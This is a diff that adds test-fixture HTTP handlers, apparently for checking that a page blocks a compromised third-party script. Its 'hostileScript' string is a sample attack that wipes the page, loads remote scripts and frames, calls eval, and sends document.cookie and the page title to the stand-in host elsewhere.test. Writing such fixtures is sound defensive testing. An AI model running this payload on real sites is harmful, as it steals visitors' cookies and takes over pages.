@@ -1,0 +1,66 @@
+import type { RequestListener } from "node:http";
+import { harmless } from "../../../support/measured.mjs";
+import { allowAll } from "./services";
+
+/** Takes the connection and never says a word. */
+export const hanging: RequestListener = () => {};
+
+export const failing: RequestListener = (_request, response) => response.writeHead(500).end("no script");
+
+/** Leaves a mark named like the file. */
+export const harmlessHost: RequestListener = (request, response) => {
+  if (allowAll(request, response)) return;
+  const mark = /^\/(\w+)\.js$/.exec(request.url ?? "")?.[1] ?? "unknown";
+  response.writeHead(200, { "Content-Type": "text/javascript" }).end(harmless(mark));
+};
+
+/**
+ * What a script can try that was let in and turned bad: to wipe out the page, to bring in others, to run text, to tell
+ * what it finds; and then it breaks.
+ */
+const hostileScript = `
+document.documentElement.setAttribute("data-hostile", "ran");
+var tried = { fetched: "", beacon: "", framed: "", evaluated: "" };
+window.tried = tried;
+document.write("<h1>Gone</h1>");
+setTimeout(function () { document.write("<h1>Gone</h1>"); document.close(); }, 0);
+var script = document.createElement("script");
+script.src = "http://elsewhere.test/more.js";
+document.head.append(script);
+var inline = document.createElement("script");
+inline.textContent = "document.documentElement.setAttribute('data-inline', '')";
+document.head.append(inline);
+var frame = document.createElement("iframe");
+frame.src = "http://elsewhere.test/";
+document.body.append(frame);
+new Image().src = "http://elsewhere.test/?stolen=" + document.title;
+fetch("http://elsewhere.test/", { method: "POST", body: document.cookie }).then(
+  function () { tried.fetched = "yes"; }, function () { tried.fetched = "no"; });
+try { tried.evaluated = eval("'yes'"); } catch (error) { tried.evaluated = "no"; }
+document.body.insertAdjacentHTML("beforeend", "<p onclick='stolen = 1' style='display:none'></p>");
+throw new Error("hostile");
+`;
+
+/** A host whose script is harmless until somebody takes it over. */
+export function createHostile(): { readonly answer: RequestListener; turn: "good" | "bad" } {
+  const host: ReturnType<typeof createHostile> = {
+    turn: "good",
+    answer: (_request, response) => {
+      const script = host.turn === "bad" ? hostileScript : harmless("experiment");
+      response.writeHead(200, { "Content-Type": "text/javascript" }).end(script);
+    },
+  };
+  return host;
+}
+
+/** Whoever isn't configured: nobody may get here. */
+export function createElsewhere(): { readonly answer: RequestListener; readonly visits: string[] } {
+  const visits: string[] = [];
+  return {
+    visits,
+    answer: (request, response) => {
+      visits.push(request.url ?? "");
+      response.writeHead(200, { "Access-Control-Allow-Origin": "*" }).end("");
+    },
+  };
+}
